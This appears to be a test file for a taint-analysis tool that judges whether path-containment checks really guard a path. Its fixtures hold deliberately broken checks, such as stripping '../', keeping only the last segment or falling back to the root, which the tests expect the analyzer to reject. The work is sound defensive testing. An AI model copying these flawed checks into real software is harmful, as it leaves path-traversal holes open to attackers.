test("a check on a helper's canonical form of a path (resolve, realpath, the real parent joined with the base name) checks the path itself", () => {
  const check = [
    `const path = require("path");`,
    `const fs = require("fs");`,
    `function real(p, follow) { if (!follow) return path.resolve(p); try { return fs.realpathSync(p); } catch { return path.join(fs.realpathSync(path.dirname(p)), path.basename(p)); } }`,
    `function flat(p, follow) { return path.join(ROOT, path.basename(p)); }`,
    `function inside(r) { return r.startsWith(ROOT + path.sep); }`,
    `exports.checkReal = function checkReal(p, cfg) { const r = real(p, cfg.follow); if (!inside(r)) return { ok: false, r }; return { ok: true, r }; };`,
    `exports.checkFlat = function checkFlat(p, cfg) { const r = flat(p, cfg.follow); if (!inside(r)) return { ok: false, r }; return { ok: true, r }; };`,
  ].join("\n");
  const main = [
    `const { checkReal, checkFlat } = require("./check.js");`,
    `function a(p) { const v = checkReal(p, CFG); if (!v.ok) throw new Error("denied"); sink(p); }`,
    `function b(p) { const v = checkFlat(p, CFG); if (!v.ok) throw new Error("denied"); sink(p); }`,
    `a(process.env.A); b(process.env.B);`,
  ].join("\n");
  const got = pairs(runTaint({ "main.js": main, "check.js": check }), { guards: true });
  // A's real path was checked; B's check saw only ROOT joined with B's base name, which says nothing of B.
  assert.ok(got.some((p) => p.startsWith("A→test@2 (") && p.includes("guard:path-containment")), got.join("\n"));
  assert.ok(got.some((p) => p.startsWith("B→test@3") && !p.includes("guard:path-containment")), got.join("\n"));
});

test("a check on a respelled copy of a canonical path (trimmed, single separators, drive form, path.normalize) checks the path; a copy that drops dots, keeps a part, or of a raw path does not", () => {
  const check = [
    `const path = require("path");`,
    `function drive(p) { if (/^\\/[a-z]\\//i.test(p)) { const d = p.charAt(1).toUpperCase(); return \`\${d}:\${p.slice(2).replace(/\\//g, "\\\\")}\`; } return p; }`,
    `function tidy(p) { p = p.trim().replace(/^["']|["']$/g, ""); if (p.startsWith("/")) return p.replace(/\\/+/g, "/").replace(/(?<!^)\\/$/, ""); p = drive(p); const n = path.normalize(p); return n.charAt(0).toUpperCase() + n.slice(1); }`,
    `function dropDots(p) { return p.replace(/\\.\\.\\//g, "").replace(/\\/+/g, "/"); }`,
    `function lastPart(p) { return "/" + p.split("/").pop(); }`,
    `function fallback(p) { if (!p) return ROOT; return p.trim(); }`,
    `function inside(r) { return r.startsWith(ROOT + path.sep); }`,
    `function nearest(p) { return path.isAbsolute(p) ? path.resolve(p) : path.resolve(ROOT, p); }`,
    `exports.viaTidy = function (p) { const abs = nearest(p); const t = tidy(abs); if (!inside(t)) throw new Error("denied"); return abs; };`,
    `exports.viaDropDots = function (p) { const abs = path.resolve(ROOT, p); const t = dropDots(abs); if (!inside(t)) throw new Error("denied"); return abs; };`,
    `exports.viaLastPart = function (p) { const abs = path.resolve(ROOT, p); const t = lastPart(abs); if (!inside(t)) throw new Error("denied"); return abs; };`,
    `exports.viaFallback = function (p) { const abs = path.resolve(ROOT, p); const t = fallback(abs); if (!inside(t)) throw new Error("denied"); return abs; };`,
    `exports.viaTidyRaw = function (p) { const t = tidy(p); if (!inside(t)) throw new Error("denied"); return p; };`,
  ].join("\n");
  const main = [
    `const { viaTidy, viaDropDots, viaLastPart, viaFallback, viaTidyRaw } = require("./check.js");`,
    `sink(viaTidy(process.env.A));`,
    `sink(viaDropDots(process.env.B));`,
    `sink(viaLastPart(process.env.C));`,
    `sink(viaFallback(process.env.D));`,
    `sink(viaTidyRaw(process.env.E));`,
  ].join("\n");
  const got = pairs(runTaint({ "main.js": main, "check.js": check }), { guards: true });
  // A's check saw A's canonical path written another way: the file it names is the one checked.
  assert.ok(got.some((p) => p.startsWith("A→test@2 (") && p.includes("guard:path-containment")), got.join("\n"));
  // B's copy lost its "../", C's kept its last name, D's may be the root itself: none says where the path points.
  for (const [name, line] of [["B", 3], ["C", 4], ["D", 5]] as const) {
    assert.ok(got.some((p) => p.startsWith(`${name}→test@${line}`) && !p.includes("guard:path-containment")), got.join("\n"));
  }
  // E is the raw argument, not a canonical path: its tidy copy may hide what the raw text does.
  assert.ok(got.some((p) => p.startsWith("E→test@6") && !p.includes("guard:path-containment")), got.join("\n"));
});

test("names whose conditionals refer to each other end the canonical-path reading instead of overflowing the stack", () => {
  const check = [
    `const path = require("path");`,
    `function tidy(p) { return p.trim(); }`,
    `function inside(r) { return r.startsWith(ROOT + path.sep); }`,
    `exports.viaCycle = function (p, c) { const a = c ? b : path.resolve(p); const b = c ? a : path.resolve(p); const t = tidy(a); if (!inside(t)) throw new Error("denied"); return a; };`,
  ].join("\n");
  const main = [`const { viaCycle } = require("./check.js");`, `sink(viaCycle(process.env.A, X));`].join("\n");
  // Before, each branch of a conditional started the name-to-initializer hop count again: a ↔ b never ended.
  const got = pairs(runTaint({ "main.js": main, "check.js": check }), { guards: true });
  assert.ok(got.some((p) => p.startsWith("A→test@2")), got.join("\n"));
});

test("a helper's canonical form is the path module's or fs's call, not a function of the package's own that shares its name", () => {
  const check = [
    `const path = require("path");`,
    `const { realpathSync } = require("fs");`,
    `function normalize(s) { return s.replace(/\\.\\.\\//g, ""); }`,
    `const tools = { resolve: (s) => s.split("/").pop() };`,
    `function own(p, opts) { return normalize(p); }`,
    `function ownLast(opts, p) { return normalize(p); }`,
    `function ownMember(p, opts) { return tools.resolve(p); }`,
    `function lib(p, opts) { return realpathSync(p); }`,
    `function inside(r) { return r.startsWith(ROOT + path.sep); }`,
    `exports.checkOwn = function (p) { const r = own(p, CFG); if (!inside(r)) return { ok: false, r }; return { ok: true, r }; };`,
    `exports.checkOwnMember = function (p) { const r = ownMember(p, CFG); if (!inside(r)) return { ok: false, r }; return { ok: true, r }; };`,
    `exports.checkOwnLast = function (p) { const r = ownLast(CFG, p); if (!inside(r)) return { ok: false, r }; return { ok: true, r }; };`,
    `exports.checkLib = function (p) { const r = lib(p, CFG); if (!inside(r)) return { ok: false, r }; return { ok: true, r }; };`,
  ].join("\n");
  const main = [
    `const { checkOwn, checkOwnMember, checkOwnLast, checkLib } = require("./check.js");`,
    `function a(p) { const v = checkOwn(p); if (!v.ok) throw new Error("denied"); sink(p); }`,
    `function b(p) { const v = checkOwnMember(p); if (!v.ok) throw new Error("denied"); sink(p); }`,
    `function c(p) { const v = checkLib(p); if (!v.ok) throw new Error("denied"); sink(p); }`,
    `function d(p) { const v = checkOwnLast(p); if (!v.ok) throw new Error("denied"); sink(p); }`,
    `a(process.env.A); b(process.env.B); c(process.env.C); d(process.env.D);`,
  ].join("\n");
  const got = pairs(runTaint({ "main.js": main, "check.js": check }), { guards: true });
  // A's check saw the text with every "../" stripped, B's only the last segment: neither says where A or B points.
  assert.ok(got.some((p) => p.startsWith("A→test@2") && !p.includes("guard:path-containment")), got.join("\n"));
  assert.ok(got.some((p) => p.startsWith("B→test@3") && !p.includes("guard:path-containment")), got.join("\n"));
  // The same with the path last: a call of the package's own is read by its body, not taken for a path call.
  assert.ok(got.some((p) => p.startsWith("D→test@5") && !p.includes("guard:path-containment")), got.join("\n"));
  // C's real path was checked.
  assert.ok(got.some((p) => p.startsWith("C→test@4 (") && p.includes("guard:path-containment")), got.join("\n"));
});
